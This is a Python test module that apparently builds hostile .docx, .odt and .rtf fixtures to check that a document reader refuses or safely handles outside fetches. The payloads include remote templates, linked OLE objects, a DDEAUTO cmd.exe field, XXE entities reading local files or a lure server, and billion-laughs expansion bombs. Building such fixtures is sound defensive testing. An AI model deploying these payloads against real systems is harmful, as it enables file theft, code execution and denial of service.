"""Documents that reach outside: for a server, for files of this machine, or without end."""

from __future__ import annotations

from tests.zoo.animals import WORDS, Lures, animal, either, read, refused
from tests.zoo.packing import (
    OFFICE,
    W,
    document,
    open_document,
    paragraph,
    relations,
    text_document,
    word,
)
from tests.zoo.words import BODY

ENTITIES = "thực thể|hỏng"


def reaching(lures: Lures, kind: str, body: str) -> bytes:
    """Return a Word file with one relation to the server."""
    target = f"{lures.url}/{kind}"
    rels = {"word/_rels/document.xml.rels": relations(("rId7", kind, target))}
    return word(BODY + body, rels)


@animal("outside-template.docx", read("125 hồ sơ"))
def outside_template(lures: Lures) -> bytes:
    """A template from the net, which Word would load with its macros."""
    settings = (
        f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    rels = relations(("rId1", "attachedTemplate", f"{lures.url}/evil.dotm"))
    return word(
        BODY,
        {
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": rels,
            "word/_rels/document.xml.rels": relations(("rId1", "settings", "settings.xml")),
        },
    )


@animal("outside-picture.docx", read("125 hồ sơ"))
def outside_picture(lures: Lures) -> bytes:
    """A picture that is only linked: whoever opens the report would tell so."""
    drawing = '<w:p><w:r><w:drawing><a:graphic><a:graphicData><pic:pic><pic:blipFill>' \
        '<a:blip r:link="rId7"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>' \
        "</w:drawing></w:r></w:p>"  # fmt: skip
    return reaching(lures, "image", drawing)


@animal("outside-object.docx", read("125 hồ sơ"))
def outside_object(lures: Lures) -> bytes:
    """A linked OLE object that updates itself."""
    linked = '<o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId7" UpdateMode="Always"/>'
    return reaching(lures, "oleObject", f"<w:p><w:r><w:object>{linked}</w:object></w:r></w:p>")


@animal("outside-part.docx", read("125 hồ sơ"))
def outside_part(lures: Lures) -> bytes:
    """A master document whose other part is on the net."""
    return reaching(lures, "subDocument", '<w:subDoc r:id="rId7"/>')


@animal("outside-frame.docx", read("125 hồ sơ"))
def outside_chunk(lures: Lures) -> bytes:
    """An altChunk whose content is on the net."""
    return reaching(lures, "aFChunk", '<w:altChunk r:id="rId7"/>')


@animal("outside-styles.docx", either("ngoài|hỏng", because="its style sheet cannot be had"))
def outside_styles(lures: Lures) -> bytes:
    """The style sheet of the document is a URL."""
    return reaching(lures, "styles", "")


@animal("fields.docx", read("125 hồ sơ"))
def fields(lures: Lures) -> bytes:
    """Fields that include a picture and a text, run a program, link to a server."""
    codes = (
        f'INCLUDEPICTURE "{lures.url}/field.png" \\d',
        f'INCLUDETEXT "{lures.secret}"',
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
        f'HYPERLINK "{lures.url}/field"',
    )
    body = "".join(f'<w:p><w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"/></w:p>'
                   for code in codes)  # fmt: skip
    return word(BODY + body)


@animal("chunk.docx", read("125 hồ sơ"))
def chunk(lures: Lures) -> bytes:
    """An altChunk with a page that loads a script and a picture."""
    page = f'<html><body><script src="{lures.url}/chunk.js"></script>' \
        f'<img src="{lures.url}/chunk.png"><p>Phần kèm theo.</p></body></html>'  # fmt: skip
    rels = relations(("rId7", "aFChunk", "chunk.html"))
    return word(
        BODY + '<w:altChunk r:id="rId7"/>',
        {"word/_rels/document.xml.rels": rels, "word/chunk.html": page},
    )


def laughing(name: str = "lol", depth: int = 10) -> str:
    """Return a document type with entities that double and redouble."""
    lines = [f'<!ENTITY {name}0 "ha">']
    for n in range(1, depth):
        lines.append(f'<!ENTITY {name}{n} "{f"&{name}{n - 1};" * 10}">')
    return f"<!DOCTYPE x [{''.join(lines)}]>"


def with_doctype(doctype: str, text: str, part: str = "word/document.xml") -> bytes:
    """Return a Word file one part of which declares entities and uses them."""
    body = document(paragraph(WORDS) + paragraph(text), f'<?xml version="1.0"?>{doctype}')
    if part == "word/document.xml":
        return word("", {part: body})
    inner = f'{doctype}<w:styles xmlns:w="{W}"><w:style w:styleId="{text}"/></w:styles>'
    return word(BODY, {part: inner})


@animal("laughs.docx", refused(ENTITIES))
def laughs(lures: Lures) -> bytes:
    """Billion laughs in the document."""
    return with_doctype(laughing(), "&lol9;")


@animal("laughs-styles.docx", refused(ENTITIES))
def laughs_in_styles(lures: Lures) -> bytes:
    """Billion laughs in an attribute of the style sheet, where even a careful parser expands."""
    return with_doctype(laughing(), "&lol9;", "word/styles.xml")


@animal("quadratic.docx", refused(ENTITIES))
def quadratic(lures: Lures) -> bytes:
    """One entity of 100 KB, used 50,000 times."""
    return with_doctype(f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>', "&a;" * 50_000)


@animal("xxe-file.docx", refused(ENTITIES))
def secret_entity(lures: Lures) -> bytes:
    """An entity that is a file of this machine."""
    return with_doctype(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{lures.secret.as_uri()}">]>', "&a;")


@animal("xxe-http.docx", refused(ENTITIES))
def fetched_entity(lures: Lures) -> bytes:
    """An entity that is on a server."""
    return with_doctype(f'<!DOCTYPE x [<!ENTITY a SYSTEM "{lures.url}/entity">]>', "&a;")


@animal("xxe-parameter.docx", refused(ENTITIES))
def parameter_entity(lures: Lures) -> bytes:
    """A parameter entity, which is loaded before the document begins."""
    return with_doctype(f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{lures.url}/dtd"> %a;]>', "x")


@animal("outside-dtd.docx", refused(ENTITIES))
def outside_dtd(lures: Lures) -> bytes:
    """A document type that is on a server."""
    return with_doctype(f'<!DOCTYPE x SYSTEM "{lures.url}/x.dtd">', "x")


# What LibreOffice opens


@animal("reaching.odt", read("125 hồ sơ"), needs="office")
def reaching_text(lures: Lures) -> bytes:
    """An OpenDocument text with linked pictures, sections and objects."""
    link = 'xlink:type="simple" xlink:actuate="onLoad" xlink:show="embed"'
    return text_document(
        open_document(
            f"<text:p>{WORDS}</text:p>"
            f'<text:section text:name="s"><text:section-source xlink:href="{lures.url}/s.odt" '
            f'{link}/><text:p>x</text:p></text:section><text:p><draw:frame svg:width="1cm" '
            f'svg:height="1cm"><draw:image xlink:href="{lures.url}/odt.png" {link}/></draw:frame>'
            f'<draw:frame><draw:object xlink:href="{lures.url}/o.ods" {link}/></draw:frame>'
            f'</text:p><text:section text:name="f"><text:section-source '
            f'xlink:href="{lures.secret.as_uri()}" {link}/><text:p>y</text:p></text:section>'
        )
    )


@animal("laughs.odt", refused(ENTITIES + "|không mở được"), needs="office")
def laughing_text(lures: Lures) -> bytes:
    """Billion laughs in an OpenDocument text."""
    return text_document(open_document(f"<text:p>{WORDS} &lol9;</text:p>", laughing()))


@animal("xxe.odt", either(ENTITIES + "|không mở được", because="LibreOffice drops the entity"),
        needs="office")  # fmt: skip
def secret_text(lures: Lures) -> bytes:
    """An OpenDocument text with an entity that is a file of this machine."""
    doctype = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{lures.secret.as_uri()}">' \
        f'<!ENTITY b SYSTEM "{lures.url}/odt-entity">]>'  # fmt: skip
    return text_document(open_document(f"<text:p>{WORDS} &a; &b;</text:p>", doctype))


@animal("reaching.rtf", read("125"), needs="office")
def reaching_rtf(lures: Lures) -> bytes:
    """An RTF with fields that include a picture and a text, and a template on a server."""
    asked = (
        f'INCLUDEPICTURE "{lures.url}/rtf.png" \\\\d',
        f'INCLUDETEXT "{lures.secret}"',
        f'INCLUDETEXT "{lures.url}/rtf.txt"',
    )
    fields = "".join("{\\field{\\*\\fldinst " + code + "}{\\fldrslt}}" for code in asked)
    template = "{\\*\\template " + lures.url + "/t.dotm}"
    return ("{\\rtf1\\ansi" + template + "BAO CAO\\par 125 ho so.\\par" + fields + "}").encode()
